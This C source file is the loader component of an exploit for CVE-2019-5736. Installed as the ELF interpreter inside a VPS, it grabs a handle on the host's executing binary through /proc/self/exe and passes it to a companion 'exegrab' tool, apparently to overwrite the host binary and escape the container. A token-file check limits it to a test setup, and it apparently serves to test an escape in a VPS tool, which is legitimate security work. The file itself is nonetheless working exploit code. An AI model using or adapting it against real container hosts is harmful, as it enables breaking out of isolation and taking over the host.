/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * The loader half of the CVE-2019-5736 attack (see exegrab.c): installed inside a test VPS as
 * its ELF loader, it runs in place of ld.so in any dynamic binary exec'd inside, the host's
 * included. No libc (a static libc would set itself up from the main binary's headers, which
 * are not ours here): raw syscalls only.
 *
 * It takes an O_PATH handle on /proc/self/exe and hands it to `exegrab retry FD` in a child
 * that outlives the binary (exec'd, so that it no longer keeps the binary busy itself).
 * Does nothing without /etc/vpsctl-escape-token.
 */
#include <asm/unistd.h>
#include <fcntl.h>

static long sys(long n, long a, long b, long c, long d)
{
	long ret;
	register long r10 __asm__("r10") = d;

	__asm__ volatile("syscall"
	                 : "=a"(ret)
	                 : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
	                 : "rcx", "r11", "memory");
	return ret;
}

static void put_num(char *p, unsigned long v)
{
	char tmp[24];
	int n = 0;

	do
		tmp[n++] = (char)('0' + v % 10);
	while ((v /= 10) != 0);
	while (n > 0)
		*p++ = tmp[--n];
	*p = '\0';
}

void _start(void);
/* entered with no return address on the stack: realign it for the compiler */
__attribute__((force_align_arg_pointer)) void _start(void)
{
	char num[24];
	char *argv[] = {"exegrab", "retry", num, 0};
	long fd, pid;

	if (sys(__NR_faccessat, AT_FDCWD, (long)"/etc/vpsctl-escape-token", F_OK, 0) != 0)
		sys(__NR_exit_group, 2, 0, 0, 0);
	fd = sys(__NR_openat, AT_FDCWD, (long)"/proc/self/exe", O_PATH, 0);
	if (fd < 0)
		sys(__NR_exit_group, 1, 0, 0, 0);
	put_num(num, (unsigned long)fd);
	pid = sys(__NR_fork, 0, 0, 0, 0);
	if (pid == 0) {
		sys(__NR_setsid, 0, 0, 0, 0);
		sys(__NR_execve, (long)"/bin/exegrab", (long)argv, (long)(argv + 3), 0);
		sys(__NR_exit_group, 1, 0, 0, 0);
	}
	/* as a VPS's init, our end would end the VPS and the grabber with it, and our staying
	 * would keep the binary busy: become something else for a while */
	if (sys(__NR_getpid, 0, 0, 0, 0) == 1) {
		char *sleep[] = {"sleep", "10", 0};

		sys(__NR_execve, (long)"/bin/busybox", (long)sleep, (long)(sleep + 2), 0);
	}
	/* on a pty, our end hangs the session up: let the child leave it first */
	{
		struct {
			long sec, nsec;
		} pause = {0, 300000000};

		sys(__NR_nanosleep, (long)&pause, 0, 0, 0);
	}
	sys(__NR_exit_group, 0, 0, 0, 0);
}
